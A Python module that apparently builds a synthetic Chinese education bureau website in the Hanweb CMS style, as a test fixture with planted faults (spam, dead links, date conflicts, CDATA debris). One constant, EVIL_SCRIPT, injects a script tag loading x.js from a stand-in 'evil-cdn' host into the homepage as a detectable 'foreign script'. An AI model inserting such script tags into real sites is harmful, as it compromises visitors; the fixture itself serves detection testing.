"""临江市教育局: a Hanweb (大汉 JCMS) style site; lists live in <datastore> XML and dataproxy.jsp."""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from functools import partial
from typing import ClassVar
from urllib.parse import parse_qs

from consolidate.samplefleet import textgen as tg
from consolidate.samplefleet.body import attr, esc, render_blocks
from consolidate.samplefleet.flavour import LegacySite, Routes
from consolidate.samplefleet.model import (
    ArticleSpec,
    FileSpec,
    Resource,
    SampleColumn,
    SamplePage,
    local_to_utc,
)
from consolidate.samplefleet.plan import ColumnPlan, plan_site, truncate

PLANS = [
    (ColumnPlan("教育动态", ["教育动态"], "news", 52, 1), 1501),
    (ColumnPlan("通知公告", ["通知公告"], "notice", 28, 4), 1502),
    (ColumnPlan("政策文件", ["政务公开", "政策文件"], "policy", 18, 50), 1504),
    (ColumnPlan("招生考试", ["招生考试"], "other", 16, 20), 1505),
    (ColumnPlan("办事指南", ["办事指南"], "guide", 8, 150), 1506),
    (ColumnPlan("教育督导", ["教育督导"], "other", 0, 0, {"empty"}), 1507),
    (ColumnPlan("校园风采", ["校园风采"], "news", 8, 1095, {"stale"}, date(2016, 9, 1)), 1508),
]
SECTION_COL = 1503
PER_PAGE = 15
FIRST_BATCH = 45
WEBID = 3
WEBNAME = "临江市教育局"
IDENTITY = {"site_id": "jyj", "name": WEBNAME, "cms": "hanweb", "encoding": "utf-8", "organiser": WEBNAME,
            "site_code": "3310820012", "icp": "浙ICP备05003302号-1", "psb": "浙公网安备33108202000215号",
            "server_header": "nginx"}
PROXY_PATHS = ("/module/web/jpage/dataproxy.jsp", "/module/jslib/jquery/jpage/dataproxy.jsp")
DEAD_NAV = "/col/col1599/index.html"
INDEX_PREFIX = "11330000002482115N"
EVIL_SCRIPT = '<script type="text/javascript" src="http://evil-cdn.example.com/x.js"></script>'
SOURCES = ["临江市教育局", "临江市教育局", "临江市教育局", "市教育局基础教育处", "临江市教育考试院", None]


@dataclass(eq=False)
class HanwebSite(LegacySite):
    """Hanweb flavour: /col/colN/index.html with records in script XML; further pages from dataproxy.jsp."""

    col_ids: dict[str, int] = field(default_factory=dict)

    CHARSET_LABEL = "UTF-8"
    ASSETS: ClassVar[dict[str, tuple[str, str]]] = {
        "/module/jslib/jquery/jquery.js": ("application/javascript", "/* jQuery stub for the sample fleet */\n"),
        "/module/jslib/jquery/jpage/jquery.page.min.js": ("application/javascript", "/* jpage pager (大汉) */\n"),
        "/jcms_files/jcms1/web3/site/css/style.css": ("text/css", "body{margin:0}#zoom p{line-height:2}\n"),
    }
    LAUNCHED = datetime(2016, 3, 1, tzinfo=UTC)
    FIRST_NEWS = datetime(2016, 3, 1)
    HOME_ITEMS = 7
    SPAM_WRAP = "offscreen"
    DEAD_BODY = "/art/2019/3/1/art_1505_1000.html"
    DEAD_CITATION = ("详见", "《2019年招生工作实施意见》", "。")

    # -- routes ---------------------------------------------------------------------------
    def site_routes(self) -> Routes:
        """The 政务公开 section page and the column pages."""
        routes: Routes = {f"/col/col{SECTION_COL}/index.html": self.section_page}
        for column in self.columns:
            routes[column.url_path] = partial(self.column_page, column)
        return routes

    def dynamic(self, path: str, query: str, form: str) -> SamplePage | None:
        """dataproxy.jsp (GET or POST form) answering record ranges."""
        if path not in PROXY_PATHS:
            return None
        params = {k: v[-1] for k, v in parse_qs(query).items()}
        params.update({k: v[-1] for k, v in parse_qs(form).items()})
        column = self.column_by_id(params.get("columnid", ""))
        records = self.by_column[column.url_path] if column else []
        try:
            start = max(1, int(params.get("startrecord", "1")))
            end = int(params.get("endrecord", str(start + FIRST_BATCH - 1)))
        except ValueError:
            return self.error_page(400)
        xml = self.datastore(column, records[start - 1:end], len(records), with_total=True)
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n' + xml).encode("utf-8")
        return SamplePage(200, "text/xml; charset=UTF-8", body, {"Server": self.server_header,
                                                                 "Cache-Control": "no-cache"})

    def column_by_id(self, value: str) -> SampleColumn | None:
        """Column with the given columnid."""
        return next((c for c in self.columns if str(self.col_ids[c.url_path]) == value), None)

    # -- list XML -------------------------------------------------------------------------------
    def unit_id(self, column: SampleColumn) -> int:
        """unitid of a column's list module."""
        return self.col_ids[column.url_path] + 2709

    def nextgroup(self, column: SampleColumn | None) -> str:
        """The <nextgroup> element pointing at the proxy."""
        colid = self.col_ids[column.url_path] if column else 0
        unit = self.unit_id(column) if column else 0
        return (f'<nextgroup><![CDATA[<a href="{PROXY_PATHS[0]}?page=1&appid=1&webid={WEBID}&path=/&columnid={colid}'
                f'&unitid={unit}&webname={WEBNAME}&permissiontype=0"></a>]]></nextgroup>')

    def record(self, article: ArticleSpec) -> str:
        """One <record> of a datastore (with CDATA debris on the planted one)."""
        assert article.published is not None
        li = "<li style=<br/>" if "debris" in article.flags else "<li>"
        return (f'<record><![CDATA[\n{li}<a href="{article.path}" title="{attr(article.title)}" target="_blank">'
                f'{esc(truncate(article.title, 26, "…"))}</a><span>{article.published:%Y-%m-%d}</span></li>\n]]></record>')

    def datastore(self, column: SampleColumn | None, records: list[ArticleSpec], total: int, with_total: bool) -> str:
        """A <datastore> document."""
        rows = "\n".join(self.record(article) for article in records)
        tail = f"<totalrecord>{total}</totalrecord>\n<totalpage>{-(-total // PER_PAGE)}</totalpage>\n" if with_total else ""
        return f"<datastore>\n{self.nextgroup(column)}\n<recordset>\n{rows}\n</recordset>\n{tail}</datastore>"

    # -- furniture --------------------------------------------------------------------------
    def head(self, title: str, metas: str = "", extra: str = "") -> str:
        """Document head."""
        return (
            '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<meta name="generator" content="大汉版通">\n'
            f'<meta name="SiteName" content="{self.name}">\n<meta name="SiteIDCode" content="{self.site_code}">\n'
            f"{metas}<title>{esc(title)}</title>\n"
            '<link rel="stylesheet" type="text/css" href="/jcms_files/jcms1/web3/site/css/style.css">\n'
            '<script type="text/javascript" src="/module/jslib/jquery/jquery.js"></script>\n'
            f"{extra}</head>\n<body>\n"
        )

    def header(self) -> str:
        """Banner and navigation (drop-down submenu hidden by default)."""
        items = ['<li><a href="/">首页</a></li>']
        for column in self.columns:
            if len(column.path) == 1:
                items.append(f'<li><a href="{column.url_path}">{column.path[0]}</a></li>')
        subs = "".join(f'<li><a href="{c.url_path}">{c.path[-1]}</a></li>' for c in self.columns if len(c.path) == 2)
        items.insert(2, f'<li class="drop"><a href="/col/col{SECTION_COL}/index.html">政务公开</a>'
                        f'<ul class="sub" style="display:none">{subs}</ul></li>')
        items.append(f'<li><a href="{DEAD_NAV}">局长信箱</a></li>')
        return (f'<div class="top"><div class="banner">{self.name}</div></div>\n'
                f'<div class="menu"><ul>{"".join(items)}</ul></div>\n')

    def footer(self) -> str:
        """Footer with 主办单位, ICP, 公安备案, 网站标识码 and the Hanweb signature."""
        return (
            '<div class="footer">\n'
            f"<p>主办单位：{self.organiser} &nbsp; 联系电话：0576-88012345</p>\n"
            f'<p><a href="https://beian.miit.gov.cn/" target="_blank">{self.icp}</a> &nbsp; '
            f"{self.psb} &nbsp; 网站标识码：{self.site_code}</p>\n"
            '<p class="produced">Produced By 大汉网络 大汉版通发布系统</p>\n</div>\n</body>\n</html>\n'
        )

    def page(self, title: str, content: str, metas: str = "", extra: str = "") -> str:
        """A full page."""
        return self.head(title, metas, extra) + self.header() + content + self.footer()

    # -- pages ---------------------------------------------------------------------------------
    def home_box(self, column: SampleColumn, items: list[ArticleSpec]) -> str:
        """Static latest list; empty and stale columns have no box."""
        if not items or "stale" in column.planted:
            return ""
        lis = "".join(f'<li><a href="{a.path}" title="{attr(a.title)}" target="_blank">{esc(truncate(a.title, 22, "…"))}'
                      f"</a><span>{a.published:%Y-%m-%d}</span></li>" for a in items if a.published)
        return (f'<div class="bd"><div class="hd"><h3>{column.path[-1]}</h3>'
                f'<a class="more" href="{column.url_path}">更多</a></div><ul>{lis}</ul></div>')

    def home_page(self, content: str) -> str:
        """The homepage carries an injected foreign script."""
        return self.page(self.name, content, extra=EVIL_SCRIPT + "\n")

    def crumb(self, names: list[str], links: list[str]) -> str:
        """当前位置 breadcrumb."""
        parts = "".join(f' &gt; <a href="{link}">{name}</a>' for name, link in zip(names, links, strict=True))
        return f'<div class="bt-position">当前位置：<a href="/">首页</a>{parts}</div>\n'

    def section_page(self) -> Resource:
        """政务公开 section page linking its child columns."""
        subs = "".join(f'<li><a href="{c.url_path}">{c.path[-1]}</a></li>' for c in self.columns if len(c.path) == 2)
        content = (f'<div class="main">\n{self.crumb(["政务公开"], [f"/col/col{SECTION_COL}/index.html"])}'
                   f'<ul class="sublist">{subs}</ul>\n</div>\n')
        return self.html_resource(self.page(f"政务公开 {self.name}", content), self.LAUNCHED)

    def column_links(self, column: SampleColumn) -> list[str]:
        """Breadcrumb links of a column."""
        if len(column.path) == 2:
            return [f"/col/col{SECTION_COL}/index.html", column.url_path]
        return [column.url_path]

    def column_page(self, column: SampleColumn) -> Resource:
        """Column page: first 45 records embedded as XML, a jpage call with the totals."""
        records = self.by_column[column.url_path]
        unit, colid = self.unit_id(column), self.col_ids[column.url_path]
        empty = '<div class="no-record">暂无信息</div>\n' if not records else ""
        content = (
            f'<div class="main">\n{self.crumb(column.path, self.column_links(column))}'
            f'<div class="lm-title">{column.path[-1]}</div>\n'
            f'<div id="{unit}"><script type="text/xml">{self.datastore(column, records[:FIRST_BATCH], len(records), False)}'
            f"</script></div>\n{empty}"
            '<script language="javascript" src="/module/jslib/jquery/jpage/jquery.page.min.js"></script>\n'
            f"<script>$(document).ready(function(){{ $('#{unit}').jpage({{dataStore: $('#{unit} datastore'), "
            f"totalRecord:{len(records)}, perPage:{PER_PAGE}, groupSize:3, proxyUrl:'{PROXY_PATHS[0]}', "
            f"barPosition:'bottom', ajaxParam:{{col:1,appid:1,webid:{WEBID},path:'/',columnid:{colid},"
            f"sourceContentType:1,unitid:{unit},webname:'{WEBNAME}',permissiontype:0}}}}); }});</script>\n</div>\n"
        )
        moment = records[0].published if records and records[0].published else self.FIRST_NEWS
        return self.html_resource(self.page(f"{column.path[-1]} {self.name}", content), local_to_utc(moment))

    def article_meta(self, article: ArticleSpec) -> str:
        """Hanweb <meta> tags; the planted date conflict shows here."""
        assert article.published is not None
        pub = article.published - timedelta(days=3) if "date_conflict" in article.flags else article.published
        source = f'<meta name="ContentSource" content="{attr(article.source)}">\n' if article.source else ""
        return (f'<meta name="ColumnName" content="{article.column.path[-1]}">\n'
                f'<meta name="ColumnType" content="{article.column.path[-1]}">\n'
                f'<meta name="ArticleTitle" content="{attr(article.title)}">\n'
                f'<meta name="PubDate" content="{pub:%Y-%m-%d %H:%M}">\n{source}')

    def article_page(self, article: ArticleSpec, part: int) -> Resource:
        """An article page (one part: Hanweb does not split articles)."""
        assert article.published is not None
        title = (f'<div class="article-title">{esc(article.title)}</div>' if "divtitle" in article.flags
                 else f'<table class="title-table" width="100%"><tr><td class="title">{esc(article.title)}</td></tr></table>')
        source = f" &nbsp; 来源：{esc(article.source)}" if article.source else ""
        info = (f'<div class="article-info">发布日期：{tg.cn_date(article.published.date())}{source} &nbsp; 浏览次数：'
                f'<span id="hits_{article.number}"></span><script>_showDynClick("hits_{article.number}",{article.number},'
                f"{self.col_ids[article.column.url_path]})</script></div>")
        body = render_blocks(self.body_parts(article)[part])
        content = (
            f'<div class="main">\n{self.crumb(article.column.path, self.column_links(article.column))}'
            f'<div class="article">\n{title}\n{info}\n{self.xxgk_table(article)}'
            f'<div id="zoom"><!--ZJEG_RSS.content.begin--><meta name="ContentStart">\n{body}\n'
            '<meta name="ContentEnd"><!--ZJEG_RSS.content.end--></div>\n'
            f'{self.attachment_block(article)}<div class="article-tools">【<a href="javascript:window.print()">打印本页</a>】'
            '【<a href="javascript:window.close()">关闭窗口</a>】</div>\n</div>\n</div>\n'
        )
        html = self.page(f"{article.title} {self.name}", content, self.article_meta(article))
        return self.html_resource(html, article.modified())

    def xxgk_table(self, article: ArticleSpec) -> str:
        """信息公开 table of policy articles: label cells without colons."""
        head = article.header
        if head is None or article.published is None:
            return ""
        written = date.fromisoformat(head["written"] or "")
        rows = [("索引号", head["index_no"], "主题分类", head["topic"]),
                ("发文机关", head["publisher"], "成文日期", tg.cn_date(written)),
                ("文号", head["doc_no"], "发布日期", tg.cn_date(article.published.date()))]
        cells = "".join(f'<tr><td class="bt">{a}</td><td>{esc(b or "")}</td><td class="bt">{c}</td><td>{esc(d or "")}</td></tr>'
                        for a, b, c, d in rows)
        return f'<table class="xxgk" border="1" cellspacing="0" cellpadding="4" width="100%">{cells}</table>\n'

    def attachment_block(self, article: ArticleSpec) -> str:
        """附件 list below the body; links are download.jsp, direct, or window.open()."""
        if not article.attachments:
            return ""
        items = []
        for spec in article.attachments:
            if spec.style == "onclick":
                link = f'<a href="javascript:void(0)" onclick="window.open(\'{spec.path}\')">{esc(spec.name)}</a>'
            else:
                link = f'<a href="{attr(spec.href)}" target="_blank">{esc(spec.name)}</a>'
            items.append(f"<li>{link}</li>")
        return f'<div class="attach"><p>附件下载：</p><ul>{"".join(items)}</ul></div>\n'


# -- building --------------------------------------------------------------------------------
def build_jyj(seed: int, articles: int | None, reference: date) -> HanwebSite:
    """Build the 教育局 site."""
    site = HanwebSite(**IDENTITY, reference_date=reference, seed=seed)
    site.col_ids = {f"/col/col{colid}/index.html": colid for _, colid in PLANS}
    rng, moments = plan_site(site, [(plan, f"/col/col{colid}/index.html") for plan, colid in PLANS], articles)
    for index, (moment, column) in enumerate(moments):
        site.articles.append(make_article(site, rng, column, moment, 52000 + index * 3 + rng.randint(0, 2)))
    finish(site)
    return site


def make_article(site: HanwebSite, rng: random.Random, column: SampleColumn, moment: datetime,
                 number: int) -> ArticleSpec:
    """One article with its files."""
    prof = tg.PROFILES["jyj"]
    colid = site.col_ids[column.url_path]
    title = tg.title_for(column.kind, rng, prof, moment.year, column.kind == "news" and rng.random() < 0.2)
    article = ArticleSpec(
        key=f"{site.seed}:jyj:{number}", column=column,
        path=f"/art/{moment.year}/{moment.month}/{moment.day}/art_{colid}_{number}.html", title=title,
        published=moment, show_time=False, source=rng.choice(SOURCES), number=number, body_date=moment.date(),
    )
    article.flags = {"divtitle"} if rng.random() < 0.4 else set()
    if column.kind in ("notice", "policy") and rng.random() < 0.3:
        article.flags.add("table")
    add_files(article, rng, moment)
    return article


def add_files(article: ArticleSpec, rng: random.Random, moment: datetime) -> None:
    """Images under /picture/, attachments via download.jsp or direct links."""
    stamp = f"{moment:%y%m%d%H%M%S}"
    name = article.column.path[-1]
    if rng.random() < {"教育动态": 0.35, "校园风采": 1.0}.get(name, 0.0):
        kind = rng.choice(["jpg", "jpg", "png"])
        article.images.append(FileSpec(path=f"/picture/0/s{stamp}{article.number}.{kind}", kind=kind,
                                       key=f"jyj:img:{article.number}", modified=local_to_utc(moment)))
    if rng.random() < {"通知公告": 0.5, "政策文件": 0.4, "招生考试": 0.4, "办事指南": 0.5}.get(name, 0.0):
        for index in range(1, rng.randint(1, 3) + 1):
            article.attachments.append(attachment(article, rng, moment, index))


def attachment(article: ArticleSpec, rng: random.Random, moment: datetime, index: int,
               style: str | None = None, kind: str | None = None) -> FileSpec:
    """One attachment: download.jsp?fileid=N (name only in the link text) or a direct /picture/ link."""
    kind = kind or rng.choice(["pdf", "doc", "xls", "docx", "xlsx"])
    theme = rng.choice(tg.PROFILES["jyj"].themes)
    label = {"pdf": "工作方案", "doc": "报名表", "xls": "汇总表", "docx": "申请表", "xlsx": "统计表"}[kind]
    name = f"{index}.{moment.year}年{theme}{label}" + (f".{kind}" if rng.random() < 0.7 else "")
    style = style or ("fileid" if rng.random() < 0.7 else "direct")
    stored = f"{moment:%y%m%d%H%M%S}{article.number}{index}.{kind}"
    spec = FileSpec(path=f"/picture/0/{stored}", kind=kind, key=f"jyj:att:{stored}", modified=local_to_utc(moment),
                    name=name, style="onclick" if style == "onclick" else "href")
    if style == "fileid":
        spec.path = f"/module/download/download.jsp?fileid={article.number * 10 + index}"
        spec.headers = {"Content-Disposition": f'attachment; filename="{stored}"'}
    spec.href = spec.path
    return spec


def finish(site: HanwebSite) -> None:
    """Order articles, plant specials, index files, assign 信息公开 metadata."""
    site.articles.sort(key=lambda a: (a.published or datetime.min, a.number), reverse=True)
    site.group_by_column(site.articles)
    plant(site)
    site.index_files()
    assign_headers(site)


def pick(site: HanwebSite, name: str, index: int) -> ArticleSpec:
    """The index-th newest article of a column (clamped)."""
    items = site.by_column[column_path(site, name)]
    return items[min(index, len(items) - 1)]


def column_path(site: HanwebSite, name: str) -> str:
    """url_path of a column by name."""
    return next(c.url_path for c in site.columns if c.path[-1] == name)


def plant(site: HanwebSite) -> None:
    """Spam, debris, date conflict, dead link and the onclick attachment."""
    spam, debris = pick(site, "教育动态", 1), pick(site, "教育动态", 2)
    spam.flags.add("spam")
    debris.flags.add("debris")
    conflict = pick(site, "通知公告", 1)
    conflict.flags.add("date_conflict")
    dead = pick(site, "招生考试", 0)
    dead.flags.add("deadlink")
    carrier = pick(site, "通知公告", 0)
    assert carrier.published is not None
    rng = random.Random(carrier.key + ":att")
    carrier.attachments = [attachment(carrier, rng, carrier.published, 1, "fileid", "pdf"),
                           attachment(carrier, rng, carrier.published, 2, "onclick", "pdf"),
                           attachment(carrier, rng, carrier.published, 3, "direct", "xls")]
    site.planted.update({
        "dead_links": [DEAD_NAV, site.DEAD_BODY],
        "spam_pages": [spam.path],
        "foreign_script": ["/"],
        "date_conflict": [conflict.path],
        "cdata_debris": [debris.column.url_path],
        "onclick_attachment": [carrier.path],
        "hidden_menus": ["/"],
        **site.column_plants(),
        "charset_conflict": [], "undated": [], "multipage": [],
    })


def assign_headers(site: HanwebSite) -> None:
    """信息公开 metadata of policy articles."""
    seq: dict[int, int] = {}
    for article in sorted(site.articles, key=lambda a: (a.published or datetime.min, a.number)):
        if article.column.kind != "policy" or article.published is None:
            continue
        rng = random.Random(article.key + ":head")
        year = article.published.year
        seq[year] = seq.get(year, 0) + rng.randint(1, 6)
        article.header = {
            "index_no": f"{INDEX_PREFIX}/{year}-{seq[year]:05d}", "topic": rng.choice(tg.TOPICS[4:6]),
            "publisher": WEBNAME, "doc_no": tg.doc_no(rng, "临教", year, rng.choice(["[]", "[]", "〔〕"])),
            "written": (article.published.date() - timedelta(days=rng.randint(1, 10))).isoformat(),
        }

